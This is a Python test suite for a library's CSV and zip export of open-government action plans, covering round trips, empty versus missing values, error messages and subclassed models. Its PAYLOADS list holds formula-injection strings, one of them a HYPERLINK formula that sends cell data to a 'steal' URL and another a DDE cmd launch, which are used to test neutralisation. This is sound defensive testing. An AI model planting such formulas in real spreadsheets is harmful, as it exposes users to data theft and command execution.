"""CSV tables: lossless round trips (folder and zip), empty vs missing, formula injection,
and errors that name the table, row and column."""

from __future__ import annotations

import zipfile
from pathlib import Path

import attrs
import pytest
from attrs import define, field
from hypothesis import HealthCheck, given, settings

import opengov
from opengov import LoadError
from opengov.cli.main import main
from opengov.io import csv as ogcsv
from opengov.io._tables import Tables, flatten, unflatten
from opengov.model import ActionPlan, Commitment, Milestone, Organisation
from opengov.model._fields import facts, list_field
from opengov.testing import action_plans

SETTINGS = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


@SETTINGS
@given(plan=action_plans())
def test_folder_round_trip(plan: ActionPlan, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("tables") / "plan"
    opengov.dump(plan, f"{folder}/")
    assert opengov.load(folder) == plan


@SETTINGS
@given(plan=action_plans())
def test_zip_round_trip_spreadsheet_safe(
    plan: ActionPlan, tmp_path_factory: pytest.TempPathFactory
) -> None:
    target = tmp_path_factory.mktemp("zip") / "plan.zip"
    opengov.dump(plan, target, spreadsheet_safe=True)
    assert opengov.load(target) == plan


def plan_with(**milestone: object) -> ActionPlan:
    return ActionPlan(
        id="p",
        country="FR",
        title="Plan, « quoted » and ’curly’",
        commitments=[
            Commitment(
                id="p/c01",
                number=1,
                title="Line one\nline two; 🎉",
                milestones=[Milestone(id="p/c01/m1", title="m", **milestone)],  # type: ignore[arg-type]
            )
        ],
    )


def test_empty_text_and_missing_stay_distinct(tmp_path: Path) -> None:
    plan = plan_with(description="", evidence=None)
    opengov.dump(plan, f"{tmp_path}/t/")
    text = (tmp_path / "t" / "milestones.csv").read_text(encoding="utf-8")
    assert ',"",' in text, "empty text is a quoted empty field"
    again = opengov.load(tmp_path / "t")
    assert again.commitments[0].milestones[0].description == ""
    assert again.commitments[0].milestones[0].evidence is None


PAYLOADS = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'",
    "plain",
]


@pytest.mark.hostile
@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_safe_neutralises_formulas(payload: str, tmp_path: Path) -> None:
    plan = plan_with(description=payload)
    opengov.dump(plan, tmp_path / "safe.zip", spreadsheet_safe=True)
    with zipfile.ZipFile(tmp_path / "safe.zip") as archive:
        raw = archive.read("milestones.csv").decode("utf-8")
    _, rows = ogcsv.decode_table(raw, "milestones")
    cell = rows[0][5]
    assert cell is not None
    if payload.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")):
        assert cell.startswith("'"), cell
    else:
        assert cell == payload
    assert opengov.load(tmp_path / "safe.zip").commitments[0].milestones[0].description == payload


def test_unsafe_tables_keep_text_as_is(tmp_path: Path) -> None:
    plan = plan_with(description="=1+1")
    opengov.dump(plan, f"{tmp_path}/t/")
    assert "=1+1" in (tmp_path / "t" / "milestones.csv").read_text(encoding="utf-8")
    assert "'=1+1" not in (tmp_path / "t" / "milestones.csv").read_text(encoding="utf-8")


def tables_of(plan: ActionPlan, tmp_path: Path) -> Path:
    folder = tmp_path / "t"
    opengov.dump(plan, f"{folder}/")
    return folder


def load_problems(folder: Path) -> list[str]:
    with pytest.raises(LoadError) as caught:
        opengov.load(folder)
    assert caught.value.source == str(folder)
    return [str(p) for p in caught.value.problems]


def test_bad_cell_names_table_row_and_column(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / "commitments.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace("p/c01,1,", "p/c01,one,"), encoding="utf-8"
    )
    assert load_problems(folder) == [
        "commitments.csv row 2, column number: expected a whole number, got 'one'"
    ]


def test_structure_errors_are_translated_to_cells(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / "milestones.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace(",unknown,", ",finished,"), encoding="utf-8"
    )
    (problem,) = load_problems(folder)
    assert problem.startswith(
        "milestones.csv row 2, column status: 'finished' is not a milestone status code"
    )


def test_orphan_rows_are_reported_not_dropped(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / "milestones.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace("p,p/c01,1,", "p,p/c99,1,"), encoding="utf-8"
    )
    (problem,) = load_problems(folder)
    assert problem.startswith("milestones.csv row 2: belongs to no row of its parent table")
    assert "commitment_id 'p/c99'" in problem


@pytest.mark.parametrize(
    ("table", "edit", "message"),
    [
        ("milestones", lambda t: t.replace("status,", "colour,", 1), "unknown column(s): colour"),
        ("milestones", lambda t: t + 'p,"p/c01,1\r\n', "malformed CSV"),
        ("milestones", lambda t: t + "p,p/c01\r\n", "has 2 cells, the header has"),
        ("plans", lambda t: t.split("\r\n")[0] + "\r\n", "expected exactly one row, found 0"),
        ("meta", lambda t: t.replace("action_plan", "budget"), "kind must be one of"),
    ],
)
def test_malformed_tables(tmp_path: Path, table: str, edit: object, message: str) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / f"{table}.csv"
    path.write_text(edit(path.read_bytes().decode("utf-8")), encoding="utf-8", newline="")  # type: ignore[operator]
    assert any(message in p for p in load_problems(folder)), load_problems(folder)


def test_unknown_table_and_missing_meta(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    (folder / "budget.csv").write_text("a\r\n1\r\n", encoding="utf-8")
    assert any("budget.csv: unknown table" in p for p in load_problems(folder))
    (folder / "budget.csv").unlink()
    (folder / "meta.csv").unlink()
    assert load_problems(folder) == ["meta.csv: missing: the tables need their meta.csv"]


def test_bad_zip(tmp_path: Path) -> None:
    bad = tmp_path / "bad.zip"
    bad.write_bytes(b"PK\x03\x04 not really")
    with pytest.raises(LoadError, match="not a readable zip file"):
        opengov.load(bad)


def test_convert_command_writes_tables(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["convert", "fr-2018-2020", f"{tmp_path}/fr/", "--no-personal-data"]) == 0
    assert (tmp_path / "fr" / "milestones.csv").is_file()
    assert (tmp_path / "fr" / "contacts.csv").read_bytes().count(b"\r\n") == 1
    assert main(["convert", str(tmp_path / "fr"), str(tmp_path / "fr.json")]) == 0
    assert opengov.load(tmp_path / "fr.json") == opengov.load(tmp_path / "fr")
    assert main(["validate", str(tmp_path / "fr")]) == 0


def test_tables_of_the_france_plan(france: ActionPlan) -> None:
    files = ogcsv.to_text_files(france)
    for name in (
        "plans.csv",
        "commitments.csv",
        "milestones.csv",
        "organisations.csv",
        "contacts.csv",
        "commitment_resources.csv",
        "participation.csv",
        "key_recommendations.csv",
        "response_echoes.csv",
    ):
        assert name in files
    header = files["milestones.csv"].split("\r\n")[0].split(",")
    assert header[:4] == ["plan_id", "commitment_id", "position", "id"]
    assert files["milestones.csv"].count("\r\n") == 1 + 61


# A model extended by subclassing: the tables follow the description, with no edit to them.


@define(kw_only=True)
class FundedCommitment(Commitment):
    budget: str | None = None
    funders: list[str] = list_field()
    funder: str | None = field(default=None, metadata=facts(references=Organisation))
    officer: str | None = field(default=None, metadata=facts(personal=True, plain=True))


@define(kw_only=True)
class FundedPlan(ActionPlan):
    commitments: list[FundedCommitment] = list_field()  # type: ignore[assignment]


def through_csv_text(tables: Tables, cls: type) -> Tables:
    """The tables of a ``cls`` written as CSV text and read back."""
    again: Tables = {}
    for name, rows in tables.items():
        header = ogcsv.schema_for(cls)[name].header
        text = ogcsv.encode_table(header, [[row[c] for c in header] for row in rows])
        header, cells = ogcsv.decode_table(text, name)
        again[name] = [dict(zip(header, row, strict=True)) for row in cells]
    return again


def test_new_fields_of_a_subclass_get_columns_and_tables() -> None:
    plan_tables = ogcsv.schema_for(ActionPlan)
    funded_tables = ogcsv.schema_for(FundedPlan)
    assert set(funded_tables) == {*plan_tables, "commitment_funders"}
    header = funded_tables["commitments"].header
    assert header[: len(plan_tables["commitments"].header)] == plan_tables["commitments"].header
    assert header[-3:] == ["budget", "funder", "officer"]
    assert funded_tables["commitment_funders"].header == [
        "plan_id",
        "commitment_id",
        "position",
        "value",
    ]
    # a commitment on its own is a document of tables too, named as in a plan
    alone = ogcsv.schema_for(FundedCommitment)
    assert list(alone)[:2] == ["commitments", "commitment_objectives"]
    assert "milestones" in alone and "commitment_funders" in alone


def test_new_fields_of_a_subclass_round_trip() -> None:
    france = opengov.datasets.load("fr-2018-2020")
    first, second = (attrs.asdict(c, recurse=False) for c in france.commitments[:2])
    funded = [
        FundedCommitment(
            **first,
            budget="1,5 M€",
            funders=["Etalab", "", "=1+1"],
            funder=france.organisations[0].id,
            officer="Jeanne Martin",
        ),
        FundedCommitment(**second, budget=""),
    ]
    plan = FundedPlan(**{**attrs.asdict(france, recurse=False), "commitments": funded})
    tables = flatten(plan)
    assert [row["value"] for row in tables["commitment_funders"]] == ["Etalab", "", "=1+1"]
    assert tables["commitments"][0]["funder"] == france.organisations[0].id
    assert tables["commitments"][0]["officer"] == "Jeanne Martin"
    assert tables["commitments"][1]["budget"] == ""
    assert tables["commitments"][1]["officer"] is None
    assert unflatten(through_csv_text(tables, FundedPlan), FundedPlan) == plan
    assert (
        unflatten(through_csv_text(flatten(funded[0]), FundedCommitment), FundedCommitment)
        == funded[0]
    )
